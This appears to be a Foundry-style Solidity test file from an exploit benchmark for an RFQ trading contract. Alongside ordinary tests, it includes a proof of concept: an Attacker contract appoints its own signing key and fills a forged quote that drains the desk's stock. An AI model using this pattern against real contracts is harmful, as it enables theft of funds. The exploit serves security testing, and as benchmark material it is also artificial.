// SPDX-License-Identifier: MPL-2.0
pragma solidity 0.8.19;

import "./SandpiperRfq.sol";

// assay-canary-98200512-f25f-4d9a-951e-0283e2244a12

interface Vm {
    function prank(address sender) external;
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function addr(uint256 key) external returns (address);
    function expectRevert(bytes calldata reason) external;
}

contract Token is IAsset {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// A token that answers "false" where others revert.
contract Polite is IAsset {
    function transferFrom(address, address, uint256) external pure returns (bool) {
        return false;
    }
}

contract Proof {
    address internal constant STRANGER = address(0x57A);
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 internal constant DESK_KEY = 0xD35C;
    uint256 internal constant ROTATED = 0x407A7ED;
    uint256 internal constant OWN_KEY = 0x77;
    uint256 internal constant STOCK = 5_870_000e6;

    Token internal usd;
    Token internal ether_;
    SandpiperRfq internal rfq;
    Attacker internal thief;
    address internal desk;
    SandpiperRfq.Quote internal forged;
    SandpiperRfq.Signature internal signed;

    function setUp() public {
        usd = new Token();
        ether_ = new Token();
        rfq = new SandpiperRfq();
        desk = vm.addr(DESK_KEY);
        usd.mint(desk, STOCK);
        vm.prank(desk);
        usd.approve(address(rfq), type(uint256).max);
        ether_.mint(address(this), 100e18);
        ether_.approve(address(rfq), type(uint256).max);

        // the attacker signs with a key of its own, which nobody has appointed
        thief = new Attacker(rfq, vm.addr(OWN_KEY));
        forged = SandpiperRfq.Quote(desk, address(thief), address(usd), address(ether_), STOCK, 0, type(uint256).max, 1);
        signed = _sign(OWN_KEY, forged);
    }

    function _sign(uint256 key, SandpiperRfq.Quote memory q) internal returns (SandpiperRfq.Signature memory) {
        bytes32 domain = keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,uint256 chainId,address verifyingContract)"),
                keccak256("Sandpiper"),
                block.chainid,
                address(rfq)
            )
        );
        (uint8 v, bytes32 r, bytes32 s) =
            vm.sign(key, keccak256(abi.encodePacked(hex"1901", domain, rfq.hashOf(q))));
        return SandpiperRfq.Signature(v, r, s);
    }

    function test_Regular() public {
        SandpiperRfq.Quote memory q = SandpiperRfq.Quote(
            desk, address(this), address(usd), address(ether_), 30_000e6, 10e18, block.timestamp + 60, 5
        );
        SandpiperRfq.Signature memory sig = _sign(DESK_KEY, q);
        require(rfq.fillPart(q, 9_000e6, sig) == 3e18, "part");
        require(rfq.fill(q, sig) == 7e18, "rest");
        require(usd.balanceOf(address(this)) == 30_000e6 && ether_.balanceOf(desk) == 10e18, "swapped");
        (bool ok,) = address(rfq).call(abi.encodeCall(SandpiperRfq.fill, (q, sig)));
        require(!ok, "filled twice");

        // another key signs only once the desk has appointed it
        q.salt = 6;
        sig = _sign(ROTATED, q);
        (ok,) = address(rfq).call(abi.encodeCall(SandpiperRfq.fill, (q, sig)));
        require(!ok, "signed by a stranger");

        SandpiperRfq.Quote[] memory qs = new SandpiperRfq.Quote[](2);
        SandpiperRfq.Signature[] memory sigs = new SandpiperRfq.Signature[](2);
        qs[1] = q;
        qs[0] = SandpiperRfq.Quote(
            desk, address(this), address(usd), address(ether_), 3_000e6, 1e18, block.timestamp + 60, 8
        );
        (sigs[0], sigs[1]) = (_sign(DESK_KEY, qs[0]), sig);
        vm.prank(desk);
        rfq.cancel(q);
        require(rfq.fillMany(qs, sigs) == 1, "one of two");

        q.salt = 9;
        sig = _sign(DESK_KEY, q);
        vm.prank(desk);
        rfq.raiseSalt(10);
        (ok,) = address(rfq).call(abi.encodeCall(SandpiperRfq.fill, (q, sig)));
        require(!ok, "withdrawn");

        vm.prank(desk);
        rfq.setSigner(address(0x51), true);
        require(rfq.signsFor(desk, address(0x51)), "signer");

        // a key that signs for both sides
        vm.prank(desk);
        rfq.setSigner(vm.addr(ROTATED), true);
        rfq.setSigner(vm.addr(ROTATED), true);
        q.salt = 11;
        sig = _sign(ROTATED, q);
        require(rfq.fill(q, sig) == 10e18, "signed by an appointed key");
    }

    /// An order of the desk that this account may fill.
    function _quote() internal view returns (SandpiperRfq.Quote memory) {
        return SandpiperRfq.Quote(
            desk, address(this), address(usd), address(ether_), 30_000e6, 10e18, block.timestamp + 60, 5
        );
    }

    function test_RefusesOtherCallers() public {
        SandpiperRfq.Quote memory q = _quote();
        SandpiperRfq.Signature memory sig = _sign(DESK_KEY, q);
        vm.prank(STRANGER);
        vm.expectRevert("SP: another taker");
        rfq.fill(q, sig);
        vm.prank(STRANGER);
        vm.expectRevert("SP: not the maker");
        rfq.cancel(q);
        vm.expectRevert("SP: not the maker");
        rfq.cancel(q);
    }

    function test_RefusesToLowerTheSalt() public {
        rfq.raiseSalt(10);
        vm.expectRevert("SP: salt");
        rfq.raiseSalt(10);
        vm.expectRevert("SP: salt");
        rfq.raiseSalt(9);
        vm.prank(STRANGER);
        vm.expectRevert("SP: salt");
        rfq.raiseSalt(0);
    }

    function test_RefusesNobodyAsSigner() public {
        vm.expectRevert("SP: signer");
        rfq.setSigner(address(0), true);
        SandpiperRfq.Quote memory q = _quote();
        vm.expectRevert("SP: signature");
        rfq.fill(q, SandpiperRfq.Signature(0, 0, 0));
        q.maker = address(0);
        vm.expectRevert("SP: signature");
        rfq.fill(q, SandpiperRfq.Signature(0, 0, 0));
    }

    function test_RefusesQuotesThatHaveRunOut() public {
        SandpiperRfq.Quote memory q = _quote();
        q.expiry = block.timestamp - 1;
        SandpiperRfq.Signature memory sig = _sign(DESK_KEY, q);
        vm.expectRevert("SP: expired");
        rfq.fill(q, sig);
    }

    function test_RefusesAmountsAboveTheQuote() public {
        SandpiperRfq.Quote memory q = _quote();
        SandpiperRfq.Signature memory sig = _sign(DESK_KEY, q);
        vm.expectRevert("SP: amount");
        rfq.fillPart(q, 30_000e6 + 1, sig);
        rfq.fillPart(q, 20_000e6, sig);
        vm.expectRevert("SP: amount");
        rfq.fillPart(q, 10_000e6 + 1, sig);
    }

    function test_RefusesListsThatDoNotFit() public {
        vm.expectRevert("SP: lengths");
        rfq.fillMany(new SandpiperRfq.Quote[](0), new SandpiperRfq.Signature[](1));
    }

    function test_RefusesWhatATokenRefuses() public {
        Polite polite = new Polite();
        SandpiperRfq.Quote memory q = _quote();
        q.takerToken = address(polite);
        SandpiperRfq.Signature memory sig = _sign(DESK_KEY, q);
        vm.expectRevert("SP: taker's token");
        rfq.fill(q, sig);
        q = _quote();
        q.makerToken = address(polite);
        sig = _sign(DESK_KEY, q);
        vm.expectRevert("SP: maker's token");
        rfq.fill(q, sig);
    }

    function exploit() public {
        thief.run(forged, signed);
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(thief));
        exploit();
        require(usd.balanceOf(address(thief)) >= before + STOCK, "nothing gained");
    }

    function target() public view returns (address) {
        return address(rfq);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Appoints its own key for itself and fills a quote that the desk never gave.
contract Attacker {
    SandpiperRfq internal rfq;
    address internal key;

    constructor(SandpiperRfq rfq_, address key_) {
        rfq = rfq_;
        key = key_;
    }

    function run(SandpiperRfq.Quote calldata q, SandpiperRfq.Signature calldata sig) external {
        rfq.setSigner(key, true);
        rfq.fill(q, sig);
    }
}
